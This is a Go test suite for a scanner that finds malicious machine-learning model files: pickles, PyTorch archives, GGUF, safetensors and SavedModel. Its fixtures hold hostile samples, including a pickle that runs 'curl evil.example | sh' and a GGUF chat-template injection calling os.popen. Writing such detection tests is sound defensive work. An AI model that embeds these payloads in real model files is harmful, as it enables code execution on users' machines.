package scan

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mlgate/mlgate/finding"
	"github.com/mlgate/mlgate/scan/pickle/pickletest"
)

func evilPickle() []byte {
	var a pickletest.Asm
	return a.Proto(2).Call("os", "system", "curl evil.example | sh").Stop().Bytes()
}

type entry struct {
	name string
	data []byte
}

func zipOf(t *testing.T, entries ...entry) []byte {
	t.Helper()
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for _, e := range entries {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: e.name, Method: zip.Store})
		if err != nil {
			t.Fatal(err)
		}
		w.Write(e.data)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func torchZip(t *testing.T, dataPkl []byte) []byte {
	return zipOf(t,
		entry{"archive/data.pkl", dataPkl},
		entry{"archive/byteorder", []byte("little")},
		entry{"archive/data/0", bytes.Repeat([]byte{0x80, 0x02}, 64)}, // raw tensor bytes that look like a pickle: never parsed
		entry{"archive/version", []byte("3\n")},
	)
}

func scanBytes(t *testing.T, name string, b []byte, opts Options) *Artifact {
	t.Helper()
	p := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(p, b, 0o644); err != nil {
		t.Fatal(err)
	}
	a, err := File(p, opts)
	if err != nil {
		t.Fatal(err)
	}
	return a
}

func ruleIDs(a *Artifact) []string {
	var out []string
	for _, f := range a.Findings {
		out = append(out, f.RuleID+" "+f.Location.Logical)
	}
	return out
}

func hasRule(a *Artifact, id, text string) bool {
	for _, f := range a.Findings {
		if f.RuleID == id && strings.Contains(f.Message+" "+f.Location.Logical, text) {
			return true
		}
	}
	return false
}

func worst(a *Artifact) finding.Severity {
	s := finding.Info
	for _, f := range a.Findings {
		s = max(s, f.Severity)
	}
	return s
}

func TestBenignArtifactsAreClean(t *testing.T) {
	npy := npyFile("<f4", bytes.Repeat([]byte{0, 0, 128, 63}, 4))
	cases := map[string][]byte{
		"model.pt":     torchZip(t, pickletest.TorchStateDict(20)),
		"weights.bin":  torchZip(t, pickletest.TorchStateDict(2)),
		"legacy.pt":    legacyTorchFile(pickletest.TorchStateDict(2)),
		"array.npy":    npy,
		"state.pkl.gz": gzipOf(t, plainPickle()),
		"no-extension": plainPickle(),
		"archive.zip":  zipOf(t, entry{"README.md", []byte("hello")}, entry{"a/state.pkl", plainPickle()}),
	}
	for name, b := range cases {
		t.Run(name, func(t *testing.T) {
			a := scanBytes(t, name, b, Options{})
			if worst(a) >= finding.High {
				t.Errorf("benign %s (%s): %v", name, a.Format, ruleIDs(a))
			}
		})
	}
}

func plainPickle() []byte {
	var a pickletest.Asm
	return a.Proto(4).Str("k").Int(1).Tuple2().Stop().Bytes()
}

func legacyTorchFile(model []byte) []byte {
	var b bytes.Buffer
	b.Write([]byte{0x80, 0x02, 0x8a, 0x0a, 0x6c, 0xfc, 0x9c, 0x46, 0xf9, 0x20, 0x6a, 0xa8, 0x50, 0x19, 0x2e}) // magic number
	var a pickletest.Asm
	b.Write(a.Proto(2).Int(1001).Stop().Bytes()) // protocol version
	a.Reset()
	b.Write(a.Proto(2).EmptyDict().Stop().Bytes()) // sys info
	b.Write(model)
	a.Reset()
	b.Write(a.Proto(2).Mark().Str("0").Op('l').Stop().Bytes()) // storage keys
	b.Write(bytes.Repeat([]byte{0xde, 0xad}, 100))             // raw storage bytes: never parsed
	return b.Bytes()
}

func gzipOf(t *testing.T, b []byte) []byte {
	var out bytes.Buffer
	zw := gzip.NewWriter(&out)
	zw.Write(b)
	zw.Close()
	return out.Bytes()
}

func npyFile(descr string, data []byte) []byte {
	header := "{'descr': '" + descr + "', 'fortran_order': False, 'shape': (4,), }"
	for (10+len(header)+1)%64 != 0 {
		header += " "
	}
	header += "\n"
	var b bytes.Buffer
	b.WriteString("\x93NUMPY\x01\x00")
	binary.Write(&b, binary.LittleEndian, uint16(len(header)))
	b.WriteString(header)
	b.Write(data)
	return b.Bytes()
}

func TestMaliciousArtifacts(t *testing.T) {
	evil := evilPickle()
	var stacked bytes.Buffer
	stacked.Write(plainPickle())
	stacked.Write(evil)
	cases := []struct {
		name, file string
		data       []byte
		rule, text string
	}{
		{"torch zip with payload", "model.pt", torchZip(t, evil), PickleDangerousGlobal.ID, "os.system('curl evil.example | sh')"},
		{"payload in a zip entry not named .pkl", "model.pt", zipOf(t, entry{"archive/data.pkl", pickletest.TorchStateDict(1)}, entry{"archive/extra/blob", evil}), PickleDangerousGlobal.ID, "archive/extra/blob"},
		{"legacy torch with payload", "legacy.pth", legacyTorchFile(evil), PickleDangerousGlobal.ID, "os.system"},
		{"unexpected extension", "config.txt", evil, PickleDangerousGlobal.ID, "os.system"},
		{"gzip-wrapped pickle", "model.pkl.gz", gzipOf(t, evil), PickleDangerousGlobal.ID, "(gzip)"},
		{"second pickle after a benign one", "model.pkl", stacked.Bytes(), PickleDangerousGlobal.ID, "os.system"},
		{"npy object array", "x.npy", npyFile("|O", evil), PickleDangerousGlobal.ID, "(object array)"},
		{"duplicate zip entries", "model.pt", zipOf(t, entry{"archive/data.pkl", pickletest.TorchStateDict(1)}, entry{"archive/data.pkl", evil}), ZipAnomaly.ID, "2 entries named"},
		{"7z container", "model.7z", append([]byte{'7', 'z', 0xbc, 0xaf, 0x27, 0x1c}, make([]byte, 64)...), UnscannableContainer.ID, "7z"},
		{"pickle inside a tar", "model.tar", tarOf(t, "model.pkl", evil), PickleDangerousGlobal.ID, "model.tar!model.pkl"},
		{"legacy torch tar", "old.tar", tarOf(t, "sys_info", plainPickle()), LegacyTarCheckpoint.ID, "PyTorch tar checkpoint"},
		{"torch zip with non-storage persistent id", "model.pt", torchZip(t, func() []byte {
			var a pickletest.Asm
			return a.Proto(2).Str("x").Op('Q').Stop().Bytes()
		}()), PicklePersistentID.ID, "not a torch storage"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			a := scanBytes(t, c.file, c.data, Options{})
			if !hasRule(a, c.rule, c.text) && !hasRule(a, c.rule, strings.TrimPrefix(c.text, c.file+"!")) {
				t.Errorf("want %s mentioning %q; format %s, got %v", c.rule, c.text, a.Format, ruleIDs(a))
			}
		})
	}
}

func tarOf(t *testing.T, name string, data []byte) []byte {
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(data))})
	tw.Write(data)
	tw.Close()
	return b.Bytes()
}

func TestZipCRCMismatch(t *testing.T) {
	b := torchZip(t, pickletest.TorchStateDict(1))
	// Flip one byte of the stored data.pkl content after its local header.
	i := bytes.Index(b, []byte("archive/data.pkl")) + len("archive/data.pkl") + 5
	b[i] ^= 0xff
	a := scanBytes(t, "model.pt", b, Options{})
	if !hasRule(a, ZipAnomaly.ID, "checksum") && !hasRule(a, ZipAnomaly.ID, "differs") {
		t.Errorf("CRC mismatch not reported: %v", ruleIDs(a))
	}
}

func TestZipLocalNameMismatch(t *testing.T) {
	b := zipOf(t, entry{"archive/data.pkl", pickletest.TorchStateDict(1)}, entry{"archive/innocent", evilPickle()})
	// Rename the second entry in its local header only.
	i := bytes.Index(b, []byte("archive/innocent"))
	copy(b[i:], "archive/data.pk2")
	a := scanBytes(t, "model.pt", b, Options{})
	if !hasRule(a, ZipAnomaly.ID, "in its local header") {
		t.Errorf("local/central mismatch not reported: %v", ruleIDs(a))
	}
	// The payload is still found, whatever the names say.
	if !hasRule(a, PickleDangerousGlobal.ID, "os.system") {
		t.Errorf("payload missed: %v", ruleIDs(a))
	}
}

func TestStrictPolicyReportsAnyPickle(t *testing.T) {
	a := scanBytes(t, "state.pkl", plainPickle(), Options{Strict: true})
	if !hasRule(a, PickleForbidden.ID, "strict") {
		t.Errorf("strict: %v", ruleIDs(a))
	}
}

func TestFormatsAreReported(t *testing.T) {
	st := []byte{14, 0, 0, 0, 0, 0, 0, 0}
	st = append(st, []byte(`{"a":"b"}     `)...)
	for name, want := range map[string]string{
		"model.pt":      "pytorch-zip",
		"legacy.pt":     "pytorch-legacy",
		"m.safetensors": "safetensors",
		"m.gguf":        "gguf",
		"readme.txt":    "unknown",
	} {
		var data []byte
		switch name {
		case "model.pt":
			data = torchZip(t, pickletest.TorchStateDict(1))
		case "legacy.pt":
			data = legacyTorchFile(pickletest.TorchStateDict(1))
		case "m.safetensors":
			data = st
		case "m.gguf":
			data = append([]byte("GGUF"), make([]byte, 20)...)
		default:
			data = []byte("just text")
		}
		if a := scanBytes(t, name, data, Options{}); a.Format != want {
			t.Errorf("%s: format %s, want %s", name, a.Format, want)
		}
	}
}

func TestDetect(t *testing.T) {
	dir := t.TempDir()
	write := func(name string, b []byte) string {
		p := filepath.Join(dir, name)
		os.WriteFile(p, b, 0o644)
		return p
	}
	for name, want := range map[string]string{
		"model.bin":   "pickle",
		"notes.txt":   "",
		"docs.zip":    "",
		"model.pt":    "zip",
		"data.pkl.gz": "compressed",
		"logs.gz":     "",
		"proto0.pkl":  "pickle",
		"proto0.txt":  "",
	} {
		var b []byte
		switch name {
		case "model.bin":
			b = evilPickle()
		case "docs.zip":
			b = zipOf(t, entry{"word/document.xml", []byte("<x/>")})
		case "model.pt":
			b = torchZip(t, plainPickle())
		case "data.pkl.gz", "logs.gz":
			b = gzipOf(t, []byte("x"))
		case "proto0.pkl", "proto0.txt":
			b = []byte("(lp0\n.")
		default:
			b = []byte("hello")
		}
		if got := Detect(write(name, b)); got != want {
			t.Errorf("Detect(%s) = %q, want %q", name, got, want)
		}
	}
}

// ggufWith writes a minimal GGUF v3 file with one string KV and no tensors.
func ggufWith(key, val string) []byte {
	var b bytes.Buffer
	w := func(v any) { binary.Write(&b, binary.LittleEndian, v) }
	b.WriteString("GGUF")
	w(uint32(3))
	w(uint64(0)) // tensors
	w(uint64(1)) // kv pairs
	w(uint64(len(key)))
	b.WriteString(key)
	w(uint32(8)) // STRING
	w(uint64(len(val)))
	b.WriteString(val)
	return b.Bytes()
}

func TestGGUF(t *testing.T) {
	benign := scanBytes(t, "m.gguf", ggufWith("tokenizer.chat_template", "{% for message in messages %}<|im_start|>{{ message['role'] }}\n{{ message['content'] }}<|im_end|>\n{% endfor %}"), Options{})
	if len(benign.Findings) != 0 || benign.Format != "gguf" {
		t.Errorf("benign GGUF: %s %v", benign.Format, ruleIDs(benign))
	}
	evil := scanBytes(t, "m.gguf", ggufWith("tokenizer.chat_template", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"), Options{})
	if !hasRule(evil, GGUFTemplateInjection.ID, "__globals__") {
		t.Errorf("template injection: %v", ruleIDs(evil))
	}
	bad := scanBytes(t, "m.gguf", append([]byte("GGUF"), make([]byte, 20)...), Options{})
	if !hasRule(bad, GGUFMalformed.ID, "") {
		t.Errorf("malformed GGUF: %v", ruleIDs(bad))
	}
}

func safetensorsFile(header string, data int) []byte {
	for (len(header))%8 != 0 {
		header += " "
	}
	var b bytes.Buffer
	binary.Write(&b, binary.LittleEndian, uint64(len(header)))
	b.WriteString(header)
	b.Write(make([]byte, data))
	return b.Bytes()
}

func TestSafetensors(t *testing.T) {
	valid := safetensorsFile(`{"__metadata__":{"format":"pt"},"a":{"dtype":"F32","shape":[2,2],"data_offsets":[0,16]},"b":{"dtype":"I64","shape":[],"data_offsets":[16,24]}}`, 24)
	if a := scanBytes(t, "model.safetensors", valid, Options{}); len(a.Findings) != 0 || a.Format != "safetensors" {
		t.Errorf("valid safetensors: %s %v", a.Format, ruleIDs(a))
	}
	dup := safetensorsFile(`{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"a":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}`, 8)
	if a := scanBytes(t, "model.safetensors", dup, Options{}); !hasRule(a, SafetensorsInvalid.ID, "") {
		t.Errorf("duplicate tensor names: %v", ruleIDs(a))
	}
	gap := safetensorsFile(`{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}`, 12)
	if a := scanBytes(t, "model.safetensors", gap, Options{}); !hasRule(a, SafetensorsInvalid.ID, "") {
		t.Errorf("trailing data: %v", ruleIDs(a))
	}
}

func TestSavedModelByName(t *testing.T) {
	// A minimal SavedModel with a WriteFile node (field numbers as in
	// tensorflow/core/protobuf/saved_model.proto and graph.proto).
	node := append([]byte{0x0a, 0x01, 'w', 0x12, 0x09}, "WriteFile"...)
	graph := append([]byte{0x0a, byte(len(node))}, node...)
	meta := append([]byte{0x12, byte(len(graph))}, graph...)
	sm := append([]byte{0x08, 0x01, 0x12, byte(len(meta))}, meta...)
	dir := t.TempDir()
	p := filepath.Join(dir, "saved_model.pb")
	os.WriteFile(p, sm, 0o644)
	a, err := File(p, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if a.Format != "savedmodel" || !hasRule(a, SavedModelRiskyOp.ID, "WriteFile") {
		t.Errorf("%s %v", a.Format, ruleIDs(a))
	}
	if Detect(p) != "savedmodel" {
		t.Error("Detect does not recognise saved_model.pb")
	}
}

func TestWalkDetectionLeavesTextAlone(t *testing.T) {
	dir := t.TempDir()
	write := func(name string, b []byte) string {
		p := filepath.Join(dir, name)
		os.WriteFile(p, b, 0o644)
		return p
	}
	for name, want := range map[string]string{
		"values.dat":  "",       // CSV starting with 'd' (DICT)
		"config.data": "",       // text starting with 'c' (GLOBAL)
		"binary.bin":  "",       // 0x80 0x02 followed by a non-opcode byte
		"state.pkl":   "pickle", // protocol 0 pickle ending in STOP
	} {
		var b []byte
		switch name {
		case "values.dat":
			b = []byte("date,value\n2024-01-01,3\n")
		case "config.data":
			b = []byte("color=red\n")
		case "binary.bin":
			b = []byte{0x80, 0x02, 0xff, 0xfe, 0x00}
		case "state.pkl":
			b = []byte("(lp0\nI1\na.")
		}
		if got := Detect(write(name, b)); got != want {
			t.Errorf("Detect(%s) = %q, want %q", name, got, want)
		}
	}
}

// Header lengths 640 (bytes 80 02 ...) and 376 (bytes 78 01, a valid zlib
// header) must still be read as safetensors, not as a pickle or zlib.
func TestSafetensorsWinsOverWeakSignatures(t *testing.T) {
	for _, n := range []int{640, 376} {
		header := `{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}`
		header += strings.Repeat(" ", n-len(header))
		b := safetensorsFile(header, 4)
		if b[0] != byte(n) || b[1] != byte(n>>8) {
			t.Fatal("test setup")
		}
		a := scanBytes(t, "w.safetensors", b, Options{})
		if a.Format != "safetensors" || len(a.Findings) != 0 {
			t.Errorf("header length %d: format %s %v", n, a.Format, ruleIDs(a))
		}
		if got := Detect(filepath.Join(t.TempDir(), "missing")); got != "" {
			t.Error("Detect of a missing file")
		}
	}
}

// Archives nested past the limit are reported, never silently skipped.
func TestNestingLimitIsReported(t *testing.T) {
	b := evilPickle()
	name := "payload.bin"
	for i := 0; i < 6; i++ {
		b = zipOf(t, entry{name, b})
		name = "inner.zip"
	}
	a := scanBytes(t, "model.zip", b, Options{})
	if !hasRule(a, UnscannableContainer.ID, "nested deeper than") {
		t.Errorf("deep nesting not reported: %v", ruleIDs(a))
	}
}

// Formats that need random access are analyzed inside containers too:
// stored zip entries as byte ranges of the archive, compressed entries and
// tar members from a bounded in-memory copy.
func TestRandomAccessFormatsInsideContainers(t *testing.T) {
	validST := safetensorsFile(`{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}`, 8)
	badST := safetensorsFile(`{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"a":{"dtype":"F32","shape":[1],"data_offsets":[8,12]}}`, 12)
	evilGGUF := ggufWith("tokenizer.chat_template", "{{ cycler.__init__.__globals__.os.popen('id').read() }}")
	deflated := func(name string, data []byte) []byte {
		var b bytes.Buffer
		zw := zip.NewWriter(&b)
		w, _ := zw.CreateHeader(&zip.FileHeader{Name: name, Method: zip.Deflate})
		w.Write(data)
		zw.Close()
		return b.Bytes()
	}
	cases := []struct {
		what string
		file []byte
		rule string
	}{
		{"stored safetensors", zipOf(t, entry{"w/model.safetensors", badST}), SafetensorsInvalid.ID},
		{"deflated safetensors", deflated("w/model.safetensors", badST), SafetensorsInvalid.ID},
		{"gguf in tar", tarOf(t, "m.gguf", evilGGUF), GGUFTemplateInjection.ID},
		{"gguf in a zip in a zip", zipOf(t, entry{"inner.zip", zipOf(t, entry{"m.gguf", evilGGUF})}), GGUFTemplateInjection.ID},
	}
	for _, c := range cases {
		a := scanBytes(t, "bundle.zip", c.file, Options{})
		if !hasRule(a, c.rule, "") {
			t.Errorf("%s: %v", c.what, ruleIDs(a))
		}
		if hasRule(a, UnsupportedFormat.ID, "") {
			t.Errorf("%s: still reported as not analyzed", c.what)
		}
	}
	for _, clean := range [][]byte{zipOf(t, entry{"model.safetensors", validST}), deflated("model.safetensors", validST)} {
		if a := scanBytes(t, "bundle.zip", clean, Options{}); len(a.Findings) != 0 {
			t.Errorf("valid safetensors in a zip: %v", ruleIDs(a))
		}
	}
	// Too large to copy: reported, not silently skipped.
	big := deflated("model.safetensors", safetensorsFile(`{"a":{"dtype":"U8","shape":[4096],"data_offsets":[0,4096]}}`, 4096))
	if a := scanBytes(t, "bundle.zip", big, Options{MaxDecompressed: 1024}); !hasRule(a, UnsupportedFormat.ID, "larger than") && !hasRule(a, ZipAnomaly.ID, "") {
		t.Errorf("oversized entry: %v", ruleIDs(a))
	}
}

// countingReaderAt counts the bytes read through it.
type countingReaderAt struct {
	r io.ReaderAt
	n int64
}

func (c *countingReaderAt) ReadAt(p []byte, off int64) (int, error) {
	n, err := c.r.ReadAt(p, off)
	c.n += int64(n)
	return n, err
}

// Reading small records backwards through the block cache must not copy a
// megabyte per record (a hostile zip whose local headers run backwards).
func TestBlockCacheBackwardReads(t *testing.T) {
	data := make([]byte, 8<<20)
	cr := &countingReaderAt{r: bytes.NewReader(data)}
	c := &blockCache{r: cr}
	buf := make([]byte, 64)
	for off := int64(len(data)) - 64; off > 0; off -= 64 << 10 {
		if _, err := c.ReadAt(buf, off); err != nil {
			t.Fatal(err)
		}
	}
	if reads := 128; cr.n > int64(reads)*(64<<10)+cacheBlock {
		t.Fatalf("read %d bytes for %d backward 64-byte reads", cr.n, reads)
	}
	// A larger read behind the block still succeeds.
	big := make([]byte, 100<<10)
	if _, err := c.ReadAt(big, 0); err != nil {
		t.Fatal(err)
	}
}
